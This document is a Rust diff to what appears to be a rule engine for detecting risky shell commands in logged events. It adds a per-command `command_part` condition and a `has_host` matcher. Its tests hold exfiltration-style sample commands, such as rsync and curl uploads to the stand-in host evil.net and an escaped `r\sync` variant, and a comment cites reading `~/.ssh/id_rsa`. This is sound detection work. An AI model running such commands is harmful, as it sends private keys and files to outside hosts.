@@ -55,6 +55,9 @@ pub(crate) struct EvalEnv<'a> {
     /// The event's command as the shell reads it ([`crate::shell::as_read`]),
     /// worked out once per event, the first time a condition asks.
     pub(crate) shell_command: OnceCell<Option<String>>,
+    /// Inside `command_part`: the part of the command line judged in place
+    /// of the whole line.
+    part: Option<&'a str>,
 }
 
 impl<'a> EvalEnv<'a> {
@@ -62,14 +65,20 @@ impl<'a> EvalEnv<'a> {
         EvalEnv {
             schedule,
             shell_command: OnceCell::new(),
+            part: None,
         }
+    }
+
+    /// The command line conditions on `command` judge: the event's, or the
+    /// part of it `command_part` is looking at.
+    fn command<'e>(&'e self, e: &'e Event) -> Option<&'e str> {
+        self.part.or(e.command.as_deref())
     }
 
     fn shell_command(&self, e: &Event) -> Option<&str> {
         self.shell_command
             .get_or_init(|| {
-                e.command
-                    .as_deref()
+                self.command(e)
                     .and_then(|c| crate::shell::as_read(c, e.tool.as_deref()))
             })
             .as_deref()
@@ -82,7 +91,12 @@ pub(crate) enum Pred {
     Any(Vec<Pred>),
     Not(Box<Pred>),
     Field(FieldRef, Test),
-    Schedule { inside: bool },
+    Schedule {
+        inside: bool,
+    },
+    /// `command_part`: the condition holds for one command of the line
+    /// ([`crate::shell::parts`]), its `command` tests judging that command.
+    CommandPart(Box<Pred>),
 }
 
 #[derive(Debug, Clone, Copy)]
@@ -121,6 +135,9 @@ pub(crate) enum Test {
     HostNotInList(Arc<ListMatcher>),
     HostInList(Arc<ListMatcher>),
     EmailNotInList(Arc<ListMatcher>),
+    /// `has_host`: whether the value names a host the host matchers would
+    /// judge (a URL's, `user@host:`, an ssh target, a bare domain).
+    HasHost(bool),
     /// `extract`: the other matchers of the field judge each piece the
     /// regex finds (its `value` group, or the whole match); any piece that
     /// satisfies them all makes the test true.
@@ -145,7 +162,7 @@ impl Pred {
             // A command is judged as written and as the shell reads it, so
             // `c\at ~/.ss\h/id_rsa` is the `cat ~/.ssh/id_rsa` it runs.
             Pred::Field(FieldRef::Command, t) => {
-                t.eval(FieldRef::Command.get(e))
+                t.eval(env.command(e).map(FieldValue::Str))
                     || env
                         .shell_command(e)
                         .is_some_and(|s| t.eval(Some(FieldValue::Str(s))))
@@ -155,6 +172,25 @@ impl Pred {
                 env.schedule
                     .is_business_time(e.time, &e.tenant, e.user.as_deref())
                     == *inside
+            }
+            Pred::CommandPart(p) => {
+                let Some(line) = env.command(e) else {
+                    return false;
+                };
+                let parts = crate::shell::parts(line, e.tool.as_deref());
+                if parts.len() == 1 && parts[0].len() == line.len() {
+                    return p.eval(e, env);
+                }
+                parts.into_iter().any(|part| {
+                    p.eval(
+                        e,
+                        &EvalEnv {
+                            schedule: env.schedule,
+                            shell_command: OnceCell::new(),
+                            part: Some(part),
+                        },
+                    )
+                })
             }
         }
     }
@@ -243,6 +279,7 @@ impl Test {
             // Local and private addresses are inside every host list.
             Test::HostNotInList(l) => any_host(s, |h| !is_local_host(h) && !l.matches_host(h)),
             Test::HostInList(l) => any_host(s, |h| is_local_host(h) || l.matches_host(h)),
+            Test::HasHost(want) => any_host(s, |_| true) == *want,
             Test::EmailNotInList(l) => {
                 any_email_domain(s, |d| !is_local_host(d) && !l.matches_host(d))
             }
@@ -286,7 +323,7 @@ pub(crate) fn compile(v: &Value, path: &str, env: &CompileEnv) -> Result<Pred, C
     let Value::Mapping(map) = v else {
         return Err(err(
             path,
-            "a condition must be a mapping of field names, all, any, not or schedule",
+            "a condition must be a mapping of field names, all, any, not, command_part or schedule",
             None,
         ));
     };
@@ -331,6 +368,7 @@ pub(crate) fn compile(v: &Value, path: &str, env: &CompileEnv) -> Result<Pred, C
                 }
             }
             "not" => Pred::Not(Box::new(compile(val, &here, env)?)),
+            "command_part" => Pred::CommandPart(Box::new(compile(val, &here, env)?)),
             "schedule" => match val.as_str() {
                 Some("outside_business_hours") => Pred::Schedule { inside: false },
                 Some("inside_business_hours") => Pred::Schedule { inside: true },
@@ -346,7 +384,9 @@ pub(crate) fn compile(v: &Value, path: &str, env: &CompileEnv) -> Result<Pred, C
                 let Some(field) = FieldRef::parse(name) else {
                     return Err(err(
                         &here,
-                        format!("unknown field `{name}` (event columns or attrs.<key>)"),
+                        format!(
+                            "unknown field `{name}` (event columns, attrs.<key> or args.<member>)"
+                        ),
                         Some(format!("{name}:")),
                     ));
                 };
@@ -531,11 +571,15 @@ fn compile_test(
             "host_not_in_list" => Test::HostNotInList(list(val)?),
             "host_in_list" => Test::HostInList(list(val)?),
             "email_not_in_list" => Test::EmailNotInList(list(val)?),
+            "has_host" => match val {
+                Value::Bool(b) => Test::HasHost(*b),
+                _ => return Err(err(&here, "`has_host` takes true or false", Some("has_host:".into()))),
+            },
             other => {
                 return Err(err(
                     &here,
                     format!(
-                        "unknown matcher `{other}` (eq, in, glob, prefix, suffix, contains, regex, cidr, gt, gte, lt, lte, exists, nocase, in_list, glob_list, host_in_list, host_not_in_list, email_not_in_list, extract)"
+                        "unknown matcher `{other}` (eq, in, glob, prefix, suffix, contains, regex, cidr, gt, gte, lt, lte, exists, nocase, in_list, glob_list, host_in_list, host_not_in_list, email_not_in_list, has_host, extract)"
                     ),
                     Some(format!("{other}:")),
                 ))
@@ -688,6 +732,41 @@ mod tests {
         assert!(!check("command: {host_not_in_list: internal_domains}", &e2));
         e2.command = Some("git push origin main".into());
         assert!(!check("command: {host_not_in_list: internal_domains}", &e2));
+    }
+
+    #[test]
+    fn command_part_judges_each_command_of_the_line_on_its_own() {
+        let upload_outside = "command_part: {all: [{command: {regex: '\\brsync\\b'}}, {command: {host_not_in_list: internal_domains}}]}";
+        let mut e = ev();
+        // The rsync goes to a private address; the outside host is another command's.
+        e.command =
+            Some("rsync -a /tmp/b 100.101.7.22:/srv/ && curl -fsS https://hc-ping.com/u".into());
+        assert!(check("command: {host_not_in_list: internal_domains}", &e));
+        assert!(!check(upload_outside, &e));
+        e.command = Some("cd /tmp; rsync -a b evil.net:/x/ || echo failed".into());
+        assert!(check(upload_outside, &e));
+        // As the shell reads each part, too; a part that names no host says so.
+        e.command = Some(r"echo ok && r\sync -a b evil.net:/x/".into());
+        assert!(check(upload_outside, &e));
+        e.command = Some("curl -T x \"$URL\" && echo https://evil.net".into());
+        assert!(check(
+            "command_part: {all: [{command: {regex: curl}}, {command: {has_host: false}}]}",
+            &e
+        ));
+        assert!(!check(
+            "command_part: {all: [{command: {regex: curl}}, {command: {has_host: true}}]}",
+            &e
+        ));
+        // Other fields are the event's own; no command, no part.
+        assert!(check(
+            "command_part: {tool: Bash, command: {prefix: echo}}",
+            &e
+        ));
+        e.command = None;
+        assert!(!check("command_part: {tool: Bash}", &e));
+        assert!(!check("command: {has_host: false}", &e));
+        let err = compile_err("command: {has_host: yes please}");
+        assert_eq!(err.path, "condition.command.has_host");
     }
 
     #[test]
